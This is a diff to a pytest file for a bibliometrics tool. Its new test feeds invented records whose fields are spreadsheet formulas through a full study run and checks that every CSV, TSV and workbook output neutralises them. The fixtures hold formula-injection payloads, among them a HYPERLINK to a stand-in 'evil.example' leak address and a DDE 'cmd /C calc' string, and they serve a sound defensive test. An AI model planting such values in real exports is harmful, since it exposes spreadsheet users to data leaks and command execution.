@@ -8,16 +8,20 @@ from __future__ import annotations
 
 import csv
 import io
+import shutil
 
 import networkx as nx
+import openpyxl
 import pandas as pd
 import pytest
+from rich.console import Console
 from typer.testing import CliRunner
 
 from bibmine.cli import app
 from bibmine.corpus.export import export
 from bibmine.corpus.model import Author, Identifiers, Kind, Record, Text, Venue
 from bibmine.corpus.store import Corpus
+from bibmine.demo import demo_folder
 from bibmine.maps.candidates import Candidate, write_candidates
 from bibmine.maps.overlay import write_cluster_profile
 from bibmine.maps.thesaurus import Thesaurus, read_thesaurus, write_thesaurus
@@ -31,6 +35,8 @@ from bibmine.sources.files import open_export
 from bibmine.specialization.inputs import write_table
 from bibmine.specialization.matrix import managerial_matrix
 from bibmine.specialization.render import write_matrix
+from bibmine.study.config import load_study
+from bibmine.study.runner import run_study
 
 LINK = '=HYPERLINK("http://evil.example/?leak","click")'
 PAYLOADS = [LINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
@@ -228,3 +234,54 @@ def test_tidy_table_csv_keeps_negative_values(coefficients, tmp_path):
     assert rows[1] == ["national", "2020", "C", "'" + LINK, "RU-A", "-1.5", ""]
     assert rows[3][-2:] == ["", "'-2+3"]
     assert evaluated(rows) == []
+
+
+# ---------------------------------------------------------------- a whole study
+
+INJECTED_STUDY_FILE = """TY  - JOUR
+TI  - =HYPERLINK("http://evil.example/?leak","click")
+AU  - -2+3
+AD  - Lipetsk State Technical University, Lipetsk, Russia
+KW  - +cmd
+KW  - @SUM(1)
+KW  - -2+3
+PY  - 2022
+DO  - 10.5555/bibmine.inject.1
+ER  -
+
+TY  - JOUR
+TI  - -2+3 soil carbon
+AU  - @Petrov, P.
+AD  - Lipetsk State Technical University, Lipetsk, Russia
+KW  - +cmd
+KW  - @SUM(1)
+KW  - -2+3
+PY  - 2023
+DO  - 10.5555/bibmine.inject.2
+ER  -
+"""
+
+
+def test_no_file_of_a_study_holds_a_formula_cell(tmp_path):
+    """The demo study plus two INVENTED records whose title, authors and keywords are formulas."""
+    folder = tmp_path / "study"
+    shutil.copytree(demo_folder(), folder)
+    (folder / "cbe_injected.ris").write_text(INJECTED_STUDY_FILE, encoding="utf-8")
+    with open(folder / "labels_demo.csv", "a", encoding="utf-8") as fh:
+        fh.write("10.5555/bibmine.inject.1,89,analyst2\n")  # a disagreement: the title goes to review.csv
+    study = load_study(folder / "study.toml")
+    run_study(study, Console(width=120))
+    out = study.out
+    tables = [p for p in sorted(out.rglob("*")) if p.suffix in (".csv", ".txt") and p.is_file()
+              and (p.suffix == ".csv" or "\t" in p.read_text(encoding="utf-8-sig").split("\n", 1)[0])]
+    found = {str(p.relative_to(out)): evaluated(rows_of(p, "," if p.suffix == ".csv" else "\t")) for p in tables}
+    assert {"compare/review.csv", "corpus/imports.csv", "maps/keywords/clusters.csv", "maps/keywords/map.txt",
+            "maps/keywords/network.txt", "specialization/matrices/matrix_national.en.csv",
+            "specialization/coefficients.csv", "rubrics/distribution.csv"} <= set(found)
+    assert {name: cells for name, cells in found.items() if cells} == {}
+    review = rows_of(out / "compare" / "review.csv")
+    assert ["'" + LINK, "89"] in [row[1:3] for row in review]
+    keywords = [row[1] for row in rows_of(out / "maps" / "keywords" / "map.txt", "\t")]
+    assert "'+cmd" in keywords and "'@sum(1" in keywords  # the keyword as the map normalises it, neutralised
+    book = openpyxl.load_workbook(out / "workbook.xlsx")
+    assert [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
